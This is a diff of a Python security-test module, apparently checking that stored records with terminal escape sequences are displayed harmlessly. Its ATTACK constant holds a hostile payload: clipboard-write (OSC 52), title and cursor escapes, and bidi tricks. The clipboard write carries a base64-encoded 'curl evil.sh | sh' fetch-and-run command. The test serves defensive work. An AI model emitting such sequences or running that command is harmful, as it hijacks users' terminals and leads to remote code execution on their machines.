@@ -1,4 +1,4 @@
-"""Two findings of the security audit.
+"""Stored text shown harmless, and no model words in the queue.
 
 A. Stored text (memory records, task fields, log lines) reaches the terminal: an ESC sequence there
 could set the window title, move the cursor over earlier output or write the clipboard (OSC 52), and
@@ -24,7 +24,7 @@ from tests.hooks.hookrun import enable_loop, run_hook, worker_lock_held
 from tests.support import memory_samples as ms
 from tests.support.sessions import place
 
-# what the audit's proofs of concept stored: an OSC 52 clipboard write, a window title, a cursor
+# what a hostile record can hold: an OSC 52 clipboard write, a window title, a cursor
 # move and a line erase, a C1 CSI (colour), bidi override and isolate, DEL, NUL and a carriage return
 ATTACK = ("\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;owned\x07\x1b[1A\x1b[2K"
           "\x9b31m\u202eevil\u2066x\u2069\x7f\x00\rhidden")
